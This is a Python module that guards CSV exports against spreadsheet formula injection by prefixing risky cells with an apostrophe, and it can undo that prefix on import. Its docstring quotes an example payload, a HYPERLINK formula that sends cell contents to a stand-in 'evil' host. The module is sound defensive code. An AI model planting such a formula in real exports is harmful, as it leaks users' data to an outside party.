"""CSV cells a spreadsheet would run as a formula, made inert — for every CSV export.

Spreadsheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return before them) as a formula: a dataset name such as
``=HYPERLINK("http://evil/?"&A1)`` from a lineage producer would run on the auditor's
machine. Such a cell is written with a leading apostrophe, which spreadsheets show as
text and do not evaluate. The CSV import strips that apostrophe again, so an export
imported back changes nothing.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from typing import Any

# The characters OWASP lists, plus their full-width forms, which some spreadsheets fold.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
GUARD = "'"


def cell_neutralize(value: Any) -> str:
    """The cell as text a spreadsheet shows and never evaluates."""
    text = "" if value is None else str(value)
    return GUARD + text if text.startswith(FORMULA_STARTS) else text


def cell_restore(text: str) -> str:
    """Undo :func:`cell_neutralize` on a cell read back from an export."""
    if text.startswith(GUARD) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class _Echo:
    """A write-only file whose ``write`` returns the text: csv.writer → one line at a time."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Neutralized CSV text, line by line, for ``StreamingHttpResponse(csv_lines(rows))``."""
    writer = csv.writer(_Echo())
    return (writer.writerow([cell_neutralize(cell) for cell in row]) for row in rows)
